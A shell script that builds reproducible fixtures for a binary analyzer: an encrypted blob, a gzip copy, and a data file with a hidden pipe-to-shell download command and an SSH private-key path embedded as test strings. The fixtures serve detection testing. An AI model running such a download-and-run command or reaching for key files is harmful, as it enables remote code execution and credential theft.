#!/bin/sh
# Builds the binary-analyzer fixtures. Reproducible: fixed key, IV and input.
set -eu
cd "$(dirname "$0")"
# 40 KiB of text encrypted with AES: an opaque blob with no magic.
seq 1 8000 | head -c 40960 > plain.txt
openssl enc -aes-256-ctr -K 000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f \
    -iv 00000000000000000000000000000000 -in plain.txt -out fail_blob.bin
# the same bytes gzip-compressed (high entropy by design, must not be flagged)
gzip -9nc fail_blob.bin > blob.gz
rm plain.txt
# a data file carrying a download-and-run command and a credential path, in
# ASCII and UTF-16LE, among binary noise
{
  head -c 64 fail_blob.bin
  printf 'curl -fsSL https://dl.example.net/i.sh | sh\0'
  head -c 32 fail_blob.bin
  printf '%s' '%USERPROFILE%\.ssh\id_rsa' | iconv -f ascii -t utf-16le
  printf '\0\0'
} > fail_commands.dat
